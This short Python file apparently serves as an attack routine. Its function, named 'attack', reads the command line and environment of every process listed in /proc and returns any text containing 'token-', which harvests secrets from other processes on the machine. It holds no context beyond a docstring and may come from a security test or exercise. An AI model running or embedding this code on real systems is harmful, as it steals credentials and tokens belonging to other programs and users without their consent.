"""Searches all processes that /proc lists for command lines and environments."""

import contextlib
import os


def attack(A):
    found = []
    for process in filter(str.isdigit, os.listdir("/proc")):
        for name in ("cmdline", "environ"):
            with contextlib.suppress(OSError):
                found.append(open(f"/proc/{process}/{name}", "rb").read().decode("latin-1"))
    return " ".join(text for text in found if "token-" in text) or found
